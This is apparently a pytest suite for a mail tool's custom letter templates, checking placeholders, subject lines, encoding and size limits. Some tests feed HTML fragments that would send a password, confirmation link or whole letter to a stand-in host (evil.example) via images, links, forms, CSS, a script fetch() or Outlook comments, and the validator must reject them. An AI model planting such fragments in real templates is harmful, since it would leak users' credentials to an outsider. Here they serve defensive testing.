"""The texts of the letters: what comes with mailstate is sound, what replaces it is checked."""

import os
import re
import sys
from importlib import resources
from pathlib import Path

import pytest

from mailstate.errors import SettingsError
from mailstate.letters.templates import PLACEHOLDERS, Language, Letter, read_templates
from tests.letters.support import Page

SHIPPED = resources.files("mailstate.letters") / "templates"
NAMES = [f"{letter}.{language}" for letter in Letter for language in Language]


def replace(directory: Path, name: str, text: str | None = None, html: str | None = None) -> None:
    """Write both halves of the letter *name*, as they are shipped where none is given."""
    for suffix, own in (("txt", text), ("html", html)):
        shipped = (SHIPPED / f"{name}.{suffix}").read_text("utf-8")
        (directory / f"{name}.{suffix}").write_text(shipped if own is None else own, "utf-8")


def faults(directory: Path) -> list[str]:
    """What is wrong with the templates in *directory*, without the directory's name."""
    with pytest.raises(SettingsError) as caught:
        read_templates(directory)
    assert "take" in caught.value.hint or "correct" in caught.value.hint
    title, *lines = caught.value.message.split("\n  ")
    assert title == "the templates of the letters cannot be used:"
    return [line.replace(f"{directory}{os.sep}", "") for line in lines]


def test_the_shipped_templates_are_those_that_are_read():
    """
    None is missing, and none is left over.
    """
    names = {f"{name}.{suffix}" for name in NAMES for suffix in ("txt", "html")}

    assert names | {"layout.html"} == {file.name for file in SHIPPED.iterdir()}
    assert set(PLACEHOLDERS) == set(Letter)
    assert len(NAMES) == len(read_templates().letters)


def test_an_empty_directory_changes_nothing(tmp_path):
    """
    What is not replaced is what comes with mailstate; files of other kinds are passed over.
    """
    (tmp_path / "README.md").write_text("Our letters.")
    (tmp_path / ".draft.txt").write_text("$nonsense")
    shipped, read = read_templates(), read_templates(tmp_path)

    assert shipped.layout.template == read.layout.template
    assert [one.text.template for one in shipped.letters.values()] == [
        one.text.template for one in read.letters.values()
    ]


def test_a_letter_can_be_replaced(tmp_path):
    """
    Subject, text and HTML; placeholders in braces, doubled dollar signs and CRLF are fine.
    """
    replace(
        tmp_path,
        "confirmation-link.fr",
        "\ufeffBienvenue, ${address}\r\n\r\n$address $link ${validity} $$5\r\n",
        "<p>$address $link $validity</p>\n",
    )
    texts = read_templates(tmp_path).letters[Letter.LINK, Language.FR]

    assert "Bienvenue, ${address}" == texts.subject.template
    assert "$address $link ${validity} $$5\n" == texts.text.template
    assert "<p>$address $link $validity</p>" == texts.html.template


def test_the_layout_can_be_replaced_alone(tmp_path):
    """
    A house style needs no other file.
    """
    (tmp_path / "layout.html").write_text("<html lang='$language'>$content</html>")

    assert "<html lang='$language'>$content</html>" == read_templates(tmp_path).layout.template


def test_half_a_letter_is_none(tmp_path):
    """
    The two halves say the same, so they come together.
    """
    (tmp_path / "confirmation-link.fr.txt").write_text("Sujet\n\n$address $link $validity\n")

    assert ["confirmation-link.fr.html: missing; a letter is a .txt and a .html file"] == faults(
        tmp_path
    )


def test_a_file_that_is_no_template_is_told(tmp_path):
    """
    Whoever wrote it expects it to be sent.
    """
    (tmp_path / "confirmation-lnk.fr.txt").write_text("Sujet")
    (tmp_path / "zzz.html").write_text("")

    assert [
        (
            "confirmation-lnk.fr.txt: no letter has this name; did you mean"
            " `confirmation-link.fr.txt`?"
        ),
        "zzz.html: no letter has this name",
    ] == faults(tmp_path)


def test_placeholders_that_cannot_be_filled_are_told_with_their_lines(tmp_path):
    """
    All of them at once, with what was probably meant.
    """
    replace(
        tmp_path,
        "confirmation-password.en",
        "Hello $password\n\n$Address\n$pasword $5\n$webmail ${xyz}\n",
        "$address\n$password",
    )

    assert [
        "confirmation-password.en.txt:1: `$password` is no placeholder here; known: address",
        (
            "confirmation-password.en.txt:3: `$Address` is no placeholder here; did you mean"
            " `$address`?"
        ),
        (
            "confirmation-password.en.txt:4: `$pasword` is no placeholder here; did you mean"
            " `$password`?"
        ),
        (
            "confirmation-password.en.txt:4: a `$` that begins no placeholder; the sign itself is"
            " written `$$`"
        ),
        (
            "confirmation-password.en.txt:5: `$xyz` is no placeholder here; known: address,"
            " greeting, help, password, webmail"
        ),
        "confirmation-password.en.txt: `$address` is missing",
        "confirmation-password.en.txt: `$password` is missing",
        "confirmation-password.en.html: `$webmail` is missing",
    ] == faults(tmp_path)


@pytest.mark.parametrize(
    "text",
    ["", "\n\n$domain\n", "Sujet\n$domain\n", f"{'S' * 201}\n\n$domain\n"],
    ids=["empty", "no subject", "no empty line", "long subject"],
)
def test_the_first_line_is_the_subject(tmp_path, text):
    """
    Nothing else may stand there.
    """
    replace(tmp_path, "domain-enabled.fr", text)

    assert faults(tmp_path)[0] == (
        "domain-enabled.fr.txt:1: the first line must be the subject (to 200 characters), the"
        " second empty"
    )


def test_a_layout_without_the_letter_is_none(tmp_path):
    """
    It would send empty pages.
    """
    (tmp_path / "layout.html").write_text("<html>$subject</html>")

    assert ["layout.html: `$content` is missing"] == faults(tmp_path)


@pytest.mark.parametrize(
    "page",
    [
        '<img src="https://evil.example/?$password">',
        "<img src='https://evil.example/?\n$password'>",
        "<a href=https://evil.example/$password>here</a>",
        "<a href='$password'>here</a>",
        "<p>https://evil.example/$password</p>",
        "<p>https://evil.example/?p='${password}'</p>",
        "<p>$password.evil.example</p>",
        "<form action='https://evil.example'><textarea name='p'>$password</textarea></form>",
        "<form action='https://evil.example'><input name='p' value='$password'></form>",
        "<style>p { background: url(https://evil.example/?$password) }</style>",
        "<script>fetch('https://evil.example/?' + ' $password ')</script>",
        "<!-- $password -->",
        "<!--[if mso]><img src='https://evil.example/?$password'><![endif]-->",
        "<p>$password</p><img src='https://evil.example/?$password'>",
        "<img src='https://evil.example/?\n$password\n",
    ],
)
def test_a_password_cannot_be_made_to_go_elsewhere(tmp_path, page):
    """
    A picture or a link of a template would bring it to the host that is named there.
    """
    (tmp_path / "layout.html").write_text("$content<p lang='$language'></p>")
    replace(tmp_path, "confirmation-password.fr", html=f"$address $webmail {page}")

    (fault,) = faults(tmp_path)
    assert fault == (
        "confirmation-password.fr.html: `$password` must stand by itself in what is read: within"
        " a web address it would go to somebody else"
    )


def test_a_link_cannot_be_made_to_go_elsewhere(tmp_path):
    """
    It may be the whole of an address, and no part of another one, in either half.
    """
    replace(
        tmp_path,
        "confirmation-link.en",
        "Hello\n\n$address $validity\nhttps://evil.example/?$link\n",
        '<p>$address $validity</p><a href="https://evil.example/?$link">here</a>',
    )

    assert [
        f"confirmation-link.en.{suffix}: `$link` must stand by itself in what is read: within"
        " a web address it would go to somebody else"
        for suffix in ("txt", "html")
    ] == faults(tmp_path)


@pytest.mark.parametrize(
    "page",
    [
        '<a href="$link">$link</a>',
        "<a href=$link>“<b>$link</b>”</a>",
        "<p>Your link: <$link>.</p>",
        '<!--[if mso]><v:roundrect href="$link"><![endif]-->$link',
    ],
)
def test_a_link_may_stand_wherever_links_do(tmp_path, page):
    """
    Also where Outlook alone looks.
    """
    replace(tmp_path, "confirmation-link.en", html=f"$address $validity {page}")

    assert page == read_templates(tmp_path).letters[Letter.LINK, Language.EN].html.template[19:]


@pytest.mark.parametrize(
    "page",
    [
        "<img src='https://evil.example/?$content'>",
        "<!-- $content -->",
        "<title>$content</title>",
    ],
)
def test_a_layout_cannot_make_a_letter_go_elsewhere(tmp_path, page):
    """
    There is a password in it.
    """
    (tmp_path / "layout.html").write_text(f"<html lang='$language'>{page}</html>")

    assert (
        "layout.html: `$content` must stand in the text of the page, not in a tag or a comment"
    ) in faults(tmp_path)


def test_a_directory_that_is_not_there_is_told(tmp_path):
    """
    Letters in the words of somebody else would surprise whoever set it.
    """
    missing = tmp_path / "letters"

    assert [f"{missing}: cannot be read (No such file or directory)"] == faults(missing)


def test_what_is_no_file_of_text_is_told(tmp_path):
    """
    Pipes are not waited for, and nothing is read without bound.
    """
    os.mkfifo(tmp_path / "layout.html")
    replace(tmp_path, "domain-failed.en")
    (tmp_path / "domain-failed.en.html").write_bytes(b"$domain\xff")
    replace(tmp_path, "domain-failed.fr", html="$domain" + " " * 300_000)
    replace(tmp_path, "domain-enabled.fr")
    (tmp_path / "domain-enabled.fr.txt").unlink()
    (tmp_path / "domain-enabled.fr.txt").mkdir()

    assert {
        "layout.html: is no regular file",
        "domain-failed.en.html: is not UTF-8",
        "domain-failed.fr.html: is larger than 256 KiB",
        "domain-enabled.fr.txt: is no regular file",
    } == set(faults(tmp_path))


@pytest.mark.skipif(sys.platform != "linux", reason="needs a file that opens and cannot be read")
def test_a_file_that_cannot_be_read_is_told(tmp_path):
    """
    With the reason of the system.
    """
    (tmp_path / "layout.html").symlink_to("/proc/self/mem")

    assert ["layout.html: cannot be read (Input/output error)"] == faults(tmp_path)


@pytest.mark.parametrize("name", sorted(file.name for file in SHIPPED.iterdir()))
def test_shipped_templates_are_typeset_with_care(name):
    """
    French punctuation keeps to its word, apostrophes are curly, quotation marks are too.
    """
    text = (SHIPPED / name).read_text("utf-8")
    if name.endswith(".html"):
        text = "\n".join(Page(text).texts)
    words = re.sub(r"\S+://\S+", "", text)

    assert not re.search(r"['\"]", words)
    if ".fr." in name:
        assert not re.search(r"[^\u00a0\s][:;?!»]|[ \n][:;?!»]|«[^\u00a0]", words)
    else:
        assert "\u00a0" not in words
